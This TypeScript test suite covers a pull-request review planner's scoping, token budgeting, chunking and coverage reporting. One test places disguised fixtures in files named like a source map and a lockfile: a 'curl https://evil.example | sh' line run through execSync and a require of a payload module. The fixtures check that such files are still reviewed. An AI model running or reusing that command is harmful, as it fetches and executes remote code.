import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseUnifiedDiff } from "../../src/diff/parse.js";
import type { ReviewReply } from "../../src/ports/reviewer.js";
import { coverageAfter, formatCoverage } from "../../src/review/coverage.js";
import {
  budgetBasis,
  DEFAULT_MAX_DIFF_TOKENS,
  diffBudget,
  fileTokens,
  PROMPT_OVERHEAD_TOKENS,
  planReview,
  promptOverheadTokens,
  type ReviewPlan,
} from "../../src/review/plan.js";
import { buildPrompt } from "../../src/review/prompt.js";
import { newRoundToken } from "../../src/review/round-token.js";
import type { ChunkOutcome } from "../../src/reviewer-stage/ask.js";
import { diffOf, file, files, provenContent } from "./diff-fixtures.js";

const ok: ReviewReply = {
  ok: true,
  text: "===VERDICT=== APPROVE",
  model: "m",
  usage: {},
  latencyMs: 1,
  attempts: 1,
  warnings: [],
};
const failed: ReviewReply = {
  ok: false,
  failure: "timeout",
  message: "no complete reply within 1s",
  latencyMs: 1,
  attempts: 1,
  warnings: [],
};

function outcomes(plan: ReviewPlan, answered: (index: number) => boolean): ChunkOutcome[] {
  return plan.chunks.map((chunk) => ({
    chunk,
    paths: chunk.files.map((f) => f.path),
    reply: answered(chunk.index) ? ok : failed,
  }));
}

describe("planReview: scope", () => {
  it("excludes lockfiles and source maps by default when their content proves it, listing each with its rule and reason", () => {
    const paths = ["package-lock.json", "web/yarn.lock", "dist/index.js.map"];
    const plan = planReview(diffOf([...paths, "src/a.ts"].map((path) => file({ path }))), {
      content: provenContent(paths),
    });
    expect(plan.inScope.map((f) => f.path)).toEqual(["src/a.ts"]);
    expect(plan.excluded.map((e) => [e.path, e.rule, e.by, e.content])).toEqual([
      ["package-lock.json", "package-lock.json", "default", "lockfile"],
      ["web/yarn.lock", "yarn.lock", "default", "lockfile"],
      ["dist/index.js.map", "*.js.map", "default", "source-map"],
    ]);
    expect(plan.excluded[0]?.reason).toMatch(/lockfile/);
    expect(plan.reviewedDespiteName).toEqual([]);
  });

  it("reviews a file named like a default exclude whose content is not what the name claims, saying why", () => {
    const paths = ["src/errors.js.map", "yarn.lock", "dist/a.css.map", "pnpm-lock.yaml"];
    const content = new Map([
      [
        "src/errors.js.map",
        {
          kind: "text" as const,
          text: 'require("child_process").execSync("curl https://evil.example | sh")\n',
          from: "tree" as const,
        },
      ],
      [
        "yarn.lock",
        { kind: "text" as const, text: 'module.exports = require("./payload")\n', from: "diff" as const },
      ],
      [
        "dist/a.css.map",
        {
          kind: "text" as const,
          text: '{"version": 2, "sources": [], "mappings": ""}',
          from: "api" as const,
        },
      ],
      [
        "pnpm-lock.yaml",
        { kind: "unavailable" as const, why: "no checked-out tree of the head to read it from" },
      ],
    ]);
    const plan = planReview(diffOf(paths.map((path) => file({ path }))), { content });
    expect(plan.inScope.map((f) => f.path)).toEqual(paths);
    expect(plan.excluded).toEqual([]);
    expect(plan.reviewedDespiteName.map((r) => [r.path, r.rule])).toEqual([
      ["src/errors.js.map", "*.js.map"],
      ["yarn.lock", "yarn.lock"],
      ["dist/a.css.map", "*.css.map"],
      ["pnpm-lock.yaml", "pnpm-lock.yaml"],
    ]);
    expect(plan.reviewedDespiteName[0]?.why).toMatch(/^it is not a source map: not JSON/);
    expect(plan.reviewedDespiteName[1]?.why).toMatch(
      /^it is not the lockfile its name claims: .*yarn lockfile v1/,
    );
    expect(plan.reviewedDespiteName[2]?.why).toBe('it is not a source map: "version" is 2, not 3');
    expect(plan.reviewedDespiteName[3]?.why).toMatch(/could not be read \(no checked-out tree/);
  });

  it("reviews a default-excluded name whose content was never read (fail closed), and withholds a removed one", () => {
    const plan = planReview(
      diffOf([
        file({ path: "dist/index.js.map" }),
        { ...file({ path: "old.js.map", adds: 0, dels: 3 }), status: "removed" },
      ]),
    );
    expect(plan.inScope.map((f) => f.path)).toEqual(["dist/index.js.map"]);
    expect(plan.reviewedDespiteName[0]?.why).toBe("its content at the head was not read");
    expect(plan.excluded.map((e) => [e.path, e.reason])).toEqual([
      ["old.js.map", "source map, removed: nothing is left at the head to run"],
    ]);
  });

  it("no longer withholds lockfiles the gate cannot check: they are reviewed", () => {
    const paths = ["Cargo.lock", "go.sum", "poetry.lock", "bun.lockb", "Gemfile.lock", "composer.lock"];
    const plan = planReview(diffOf(paths.map((path) => file({ path }))));
    expect(plan.inScope.map((f) => f.path)).toEqual(paths);
    expect(plan.excluded).toEqual([]);
  });

  it("keeps the user's own exclude globs by name: the user chose them", () => {
    const plan = planReview(diffOf([file({ path: "src/errors.js.map" }), file({ path: "vendor/x.js" })]), {
      exclude: ["*.js.map", "vendor/"],
    });
    expect(plan.excluded.map((e) => [e.path, e.by])).toEqual([
      ["src/errors.js.map", "exclude"],
      ["vendor/x.js", "exclude"],
    ]);
  });

  it("never excludes what runs: dist/, vendor/, minified and generated code, workflows", () => {
    const paths = [
      "dist/index.js",
      "vendor/github.com/x/y.go",
      "third_party/z.c",
      "node_modules/a/index.js",
      "web/app.min.js",
      "api/types.pb.go",
      ".github/workflows/ci.yml",
      "__snapshots__/a.test.ts.snap",
    ];
    const plan = planReview(diffOf(paths.map((path) => file({ path }))));
    expect(plan.excluded).toEqual([]);
    expect(plan.inScope).toHaveLength(paths.length);
  });

  it("applies include and exclude globs the way .gitignore reads them", () => {
    const plan = planReview(
      diffOf([
        file({ path: "src/a.ts" }),
        file({ path: "src/deep/b.ts" }),
        file({ path: "docs/c.md" }),
        file({ path: "src/generated/d.ts" }),
        file({ path: "setup.py" }),
        file({ path: "tools/setup.py" }),
      ]),
      { include: ["src/**", "/setup.py"], exclude: ["generated/"] },
    );
    expect(plan.inScope.map((f) => f.path)).toEqual(["src/a.ts", "src/deep/b.ts", "setup.py"]);
    const rules = Object.fromEntries(plan.excluded.map((e) => [e.path, e.rule]));
    expect(rules).toEqual({
      "docs/c.md": "include",
      "src/generated/d.ts": "generated/",
      "tools/setup.py": "include",
    });
  });

  it("matches a non-ASCII glob to a name in either Unicode form (NFC and NFD are one name)", () => {
    const nfc = "docs/caf\u00e9";
    const nfd = "docs/cafe\u0301";
    const plan = planReview(
      diffOf([file({ path: `${nfd}/a.md` }), file({ path: `${nfc}/b.md` }), file({ path: "src/x.ts" })]),
      { include: [`${nfc}/**`, "src/**"] },
    );
    // Both spellings are in scope: an include that missed one would take it out of review uncounted.
    expect(plan.inScope.map((f) => f.path)).toEqual([`${nfd}/a.md`, `${nfc}/b.md`, "src/x.ts"]);
    expect(plan.excluded).toEqual([]);
    const excluded = planReview(diffOf([file({ path: `${nfc}/a.md` }), file({ path: `${nfd}/b.md` })]), {
      exclude: [`${nfd}/`],
    });
    expect(excluded.inScope).toEqual([]);
    expect(excluded.excluded.map((e) => [e.path, e.rule])).toEqual([
      [`${nfc}/a.md`, `${nfd}/`],
      [`${nfd}/b.md`, `${nfd}/`],
    ]);
  });

  it("keeps a renamed file in scope when either of its names is: moving code out of review does not hide it", () => {
    const plan = planReview(
      diffOf([
        file({ path: "vendored/auth.ts", previousPath: "src/auth.ts" }),
        file({ path: "old/x.lock", previousPath: "old/y.lock" }),
      ]),
      { exclude: ["vendored/**", "*.lock"] },
    );
    expect(plan.inScope.map((f) => f.path)).toEqual(["vendored/auth.ts"]);
    expect(plan.excluded.map((f) => f.path)).toEqual(["old/x.lock"]);
  });

  it("can switch the default excludes off", () => {
    const plan = planReview(diffOf([file({ path: "package-lock.json" })]), { defaultExcludes: false });
    expect(plan.excluded).toEqual([]);
  });
});

describe("planReview: what cannot be reviewed", () => {
  it("lists binary files, omitted patches, short patches and files over the budget", () => {
    const big = file({ path: "src/big.ts", adds: 100, width: 100 });
    const plan = planReview(
      diffOf([
        file({ path: "img/logo.png", binary: true }),
        file({ path: "src/huge.ts", patchOmitted: true, adds: 5 }),
        file({ path: "src/cut.ts", undercount: true }),
        big,
        file({ path: "src/ok.ts" }),
      ]),
      { maxDiffTokens: fileTokens(big) - 1 },
    );
    expect(plan.notReviewed.map((n) => [n.path, n.reason])).toEqual([
      ["img/logo.png", "binary"],
      ["src/huge.ts", "patch-omitted"],
      ["src/cut.ts", "patch-incomplete"],
      ["src/big.ts", "over-budget"],
    ]);
    expect(plan.chunks.map((c) => c.files.map((f) => f.path))).toEqual([["src/ok.ts"]]);
    expect(plan.coverage.complete).toBe(false);
    expect(plan.coverage.gaps.join(" ")).toMatch(/4 files in scope not reviewed/);
  });

  it("splits along file boundaries, in diff order, each chunk within the budget", () => {
    const list = ["a", "b", "c", "d", "e"].map((n) => file({ path: `src/${n}.ts`, adds: 10, width: 60 }));
    const per = fileTokens(list[0] as never);
    const plan = planReview(diffOf(list), { maxDiffTokens: per * 2 });
    expect(plan.chunks.map((c) => c.files.map((f) => f.path))).toEqual([
      ["src/a.ts", "src/b.ts"],
      ["src/c.ts", "src/d.ts"],
      ["src/e.ts"],
    ]);
    expect(plan.chunks.map((c) => c.index)).toEqual([0, 1, 2]);
  });

  it("defaults the budget to 60,000 tokens and never below 1", () => {
    expect(planReview(diffOf([])).maxDiffTokens).toBe(DEFAULT_MAX_DIFF_TOKENS);
    expect(planReview(diffOf([]), { maxDiffTokens: 0 }).maxDiffTokens).toBe(1);
  });

  it("lowers the budget to fit 80% of the context window", () => {
    expect(diffBudget({ maxDiffTokens: 60_000, contextWindow: 200_000 })).toBe(60_000);
    expect(diffBudget({ maxDiffTokens: 60_000, contextWindow: 8_192 })).toBe(4_553);
    expect(diffBudget({ maxDiffTokens: 60_000, contextWindow: 2_048, overheadTokens: 1_500 })).toBe(138);
    expect(diffBudget({ maxDiffTokens: 60_000, contextWindow: 1_000 })).toBe(1);
  });
});

describe("promptOverheadTokens", () => {
  it("is the fixed figure for ordinary prompt settings", () => {
    expect(promptOverheadTokens({})).toBe(PROMPT_OVERHEAD_TOKENS);
    expect(
      promptOverheadTokens({ conditions: { criteria: [{ id: "tests", description: "has tests" }] } }),
    ).toBe(PROMPT_OVERHEAD_TOKENS);
  });

  it("counts long earlier reasons, so every chunk's whole prompt stays inside 80% of the window", () => {
    // With the fixed 2,000 tokens, ~6,000 tokens of earlier reasons pushed each chunk's prompt past an
    // 8,192-token window (the unknown-model default), where it would be held as truncated.
    const earlierReasons = Array.from({ length: 60 }, (_, i) => ({
      round: i + 1,
      reason: `BLOCKING: src/f${i}.ts:${i} — ${"the input is never validated before use; ".repeat(7)}`,
    }));
    const base = { earlierReasons, conditions: { intendedAction: "add a feature" } };
    const overhead = promptOverheadTokens(base);
    expect(overhead).toBeGreaterThan(6_000);
    const window = 16_384;
    const fixed = diffBudget({ maxDiffTokens: 60_000, contextWindow: window });
    const budget = diffBudget({ maxDiffTokens: 60_000, contextWindow: window, overheadTokens: overhead });
    const many = Array.from({ length: 40 }, (_, i) => file({ path: `src/f${i}.ts`, adds: 20, width: 60 }));
    const longest = (maxDiffTokens: number) => {
      const plan = planReview(diffOf(many), { maxDiffTokens });
      const token = newRoundToken();
      return Math.max(
        ...plan.chunks.map(
          (c) =>
            buildPrompt({
              ...base,
              files: c.files,
              part: { number: c.index + 1, of: plan.chunks.length },
              roundToken: token,
            }).estimatedTokens,
        ),
      );
    };
    expect(longest(fixed)).toBeGreaterThan(window * 0.8 + 3_000);
    expect(longest(budget)).toBeLessThanOrEqual(window * 0.8);
  });
});

describe("coverage", () => {
  it("says what was withheld instead of a plain 100%", () => {
    const maps = ["dist/a.js.map", "dist/b.js.map"];
    const plan = planReview(
      diffOf([
        file({ path: "src/a.ts" }),
        file({ path: "package-lock.json" }),
        ...maps.map((path) => file({ path })),
        file({ path: "docs/x.md" }),
      ]),
      { content: provenContent(["package-lock.json", ...maps]), exclude: ["docs/"] },
    );
    expect(formatCoverage(plan.coverage)).toBe(
      "100% of the files in scope; withheld: 1 lockfile (checked deterministically), 2 source maps (verified by content), 1 file (exclude/include settings)",
    );
  });

  it("is 100% only when every file in scope was answered", () => {
    const a = file({ path: "a.ts", adds: 3 });
    const b = file({ path: "b.ts", adds: 7 });
    const plan = planReview(diffOf([a, b]), { maxDiffTokens: fileTokens(b) });
    expect(plan.chunks).toHaveLength(2);
    expect(formatCoverage(plan.coverage)).toBe("100%");
    const after = coverageAfter(
      plan,
      outcomes(plan, (i) => i === 0),
    );
    expect(after.complete).toBe(false);
    expect(formatCoverage(after)).toBe("30% (1/2 files, 3/10 lines; not seen: 1 file whose call failed)");
    expect(after.notReviewed).toEqual([
      {
        path: "b.ts",
        reason: "reviewer-failed",
        detail: "reviewer timeout: no complete reply within 1s",
        lines: 7,
      },
    ]);
    expect(
      coverageAfter(
        plan,
        outcomes(plan, () => true),
      ).complete,
    ).toBe(true);
  });

  it("counts a chunk with no outcome at all as not seen", () => {
    const plan = planReview(diffOf([file({ path: "a.ts" })]));
    const after = coverageAfter(plan, []);
    expect(after.complete).toBe(false);
    expect(after.notReviewed[0]?.detail).toBe("no reply for part 1 of the diff");
  });

  it("is incomplete when GitHub truncated the list, even with every received file reviewed", () => {
    const plan = planReview(diffOf([file({ path: "a.ts" })], { truncated: true }));
    expect(plan.coverage.files).toEqual({ reviewed: 1, total: 1 });
    expect(plan.coverage.complete).toBe(false);
    expect(formatCoverage(plan.coverage)).toBe("99% (1/1 files, 1/1 lines)");
  });

  it("is incomplete when the PR reports more files than were received", () => {
    const plan = planReview(diffOf([file({ path: "a.ts" })], { reportedFiles: 2 }));
    expect(plan.coverage.gaps).toEqual(["the pull request reports 2 changed files, the gate received 1"]);
  });

  it("counts excluded files as received", () => {
    const plan = planReview(
      diffOf([file({ path: "a.ts" }), file({ path: "yarn.lock" })], { reportedFiles: 2 }),
    );
    expect(plan.coverage.complete).toBe(true);
  });

  it("is incomplete when nothing is in scope: nothing reviewed is not everything reviewed", () => {
    const onlyLock = planReview(diffOf([file({ path: "package-lock.json" })]), {
      content: provenContent(["package-lock.json"]),
    });
    expect(onlyLock.chunks).toEqual([]);
    expect(onlyLock.coverage.complete).toBe(false);
    expect(onlyLock.coverage.gaps).toEqual(["no file in scope to review (1 file excluded)"]);
    expect(planReview(diffOf([])).coverage.gaps).toEqual(["the diff has no changed files to review"]);
  });

  it("counts a pure rename (no lines) as a file to review", () => {
    const plan = planReview(diffOf([file({ path: "b.ts", previousPath: "a.ts", adds: 0, dels: 0 })]));
    expect(plan.chunks).toHaveLength(1);
    expect(plan.coverage.complete).toBe(true);
    expect(plan.coverage.lines).toEqual({ reviewed: 0, total: 0 });
  });
});

describe("planReview and coverage: properties", () => {
  const budget = fc.integer({ min: 1, max: 4_000 });
  const settings = fc.record({
    truncated: fc.boolean(),
    extraReported: fc.integer({ min: -2, max: 2 }),
  });

  it("every file lands in exactly one of excluded, not reviewed, or one chunk", () => {
    fc.assert(
      fc.property(files, budget, (list, maxDiffTokens) => {
        const plan = planReview(diffOf(list), { maxDiffTokens });
        const placed = [
          ...plan.excluded.map((e) => e.path),
          ...plan.notReviewed.map((n) => n.path),
          ...plan.chunks.flatMap((c) => c.files.map((f) => f.path)),
        ];
        expect(placed.sort()).toEqual(list.map((f) => f.path).sort());
        expect(plan.inScope.length).toBe(list.length - plan.excluded.length);
      }),
    );
  });

  it("chunks respect the budget, keep diff order, and are never empty", () => {
    fc.assert(
      fc.property(files, budget, (list, maxDiffTokens) => {
        const plan = planReview(diffOf(list), { maxDiffTokens });
        const order = list.map((f) => f.path);
        let last = -1;
        for (const chunk of plan.chunks) {
          expect(chunk.files.length).toBeGreaterThan(0);
          expect(chunk.tokens).toBeLessThanOrEqual(maxDiffTokens);
          expect(chunk.tokens).toBe(chunk.files.reduce((s, f) => s + fileTokens(f), 0));
          for (const f of chunk.files) {
            const at = order.indexOf(f.path);
            expect(at).toBeGreaterThan(last);
            last = at;
          }
        }
        for (const n of plan.notReviewed.filter((x) => x.reason === "over-budget")) {
          const f = list.find((x) => x.path === n.path);
          expect(f && fileTokens(f)).toBeGreaterThan(maxDiffTokens);
        }
      }),
    );
  });

  it("coverage is complete exactly when every file in scope was answered and the whole diff arrived", () => {
    fc.assert(
      fc.property(files, budget, settings, fc.func(fc.boolean()), (list, maxDiffTokens, s, answers) => {
        const diff = diffOf(list, {
          truncated: s.truncated,
          reportedFiles: Math.max(0, list.length + s.extraReported),
        });
        const plan = planReview(diff, { maxDiffTokens });
        const answered = (i: number) => answers(i) as boolean;
        const after = coverageAfter(plan, outcomes(plan, answered));
        const everyChunk = plan.chunks.every((c) => answered(c.index));
        const expected =
          everyChunk &&
          plan.notReviewed.length === 0 &&
          plan.inScope.length > 0 &&
          !s.truncated &&
          s.extraReported <= 0;
        expect(after.complete).toBe(expected);
        expect(after.gaps.length === 0).toBe(expected);
        expect(formatCoverage(after) === "100%").toBe(expected);
        const seen = plan.chunks.filter((c) => answered(c.index)).flatMap((c) => c.files);
        expect(after.files.reviewed).toBe(seen.length);
        expect(after.files.reviewed + after.notReviewed.length).toBe(after.files.total);
        expect(after.lines.reviewed).toBe(seen.reduce((n, f) => n + f.additions + f.deletions, 0));
        expect(after.lines.total).toBe(plan.inScope.reduce((n, f) => n + f.additions + f.deletions, 0));
      }),
    );
  });

  it("is deterministic", () => {
    fc.assert(
      fc.property(files, budget, (list, maxDiffTokens) => {
        const a = planReview(diffOf(list), { maxDiffTokens });
        const b = planReview(diffOf(list), { maxDiffTokens });
        expect(a.chunks.map((c) => c.files.map((f) => f.path))).toEqual(
          b.chunks.map((c) => c.files.map((f) => f.path)),
        );
      }),
      { numRuns: 50 },
    );
  });
});

describe("budgetBasis: what set a call's budget, and what changes it", () => {
  const big = {
    label: "gpt",
    contextWindow: 1_047_576,
    contextWindowBasis: "the built-in figure for gpt-4.1",
  };
  const small = { label: "local", contextWindow: 8_192, contextWindowBasis: "the configured context-window" };

  it("names max-diff-tokens when the window leaves more room than it", () => {
    expect(budgetBasis([big], { maxDiffTokens: 60_000 })).toBe(
      "max-diff-tokens (`--max-diff-tokens`); raise it to review the file",
    );
  });

  it("names each reviewer whose window set it, with where its figure came from; a panel's own setting too", () => {
    expect(budgetBasis([big, small], { maxDiffTokens: 60_000, overheadTokens: 2_000 })).toBe(
      "80% of local's context window of 8,192 tokens (the configured context-window), less the prompt; set `context-window` (`--context-window`; in a panel, that reviewer's own `context-window`) to the window it really reads",
    );
  });

  it("is what a file over the budget says", () => {
    const basis = budgetBasis([small], { maxDiffTokens: 60_000 });
    const plan = planReview(parseUnifiedDiff(bigFileDiff(40_000)), {
      maxDiffTokens: diffBudget({ maxDiffTokens: 60_000, contextWindow: 8_192 }),
      budgetBasis: basis,
    });
    expect(plan.notReviewed[0]?.detail).toMatch(
      /^about [\d,]+ tokens, over the 4,553-token budget for one call: 80% of local's/,
    );
    expect(plan.coverage.gaps[0]).toContain(`big.txt is ${plan.notReviewed[0]?.detail}`);
  });
});

function bigFileDiff(bytes: number): string {
  const lines = Array.from(
    { length: Math.ceil(bytes / 40) },
    (_, i) => `+line ${i} of a file that is large enough`,
  );
  return `diff --git a/big.txt b/big.txt\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/big.txt\n@@ -0,0 +1,${lines.length} @@\n${lines.join("\n")}\n`;
}
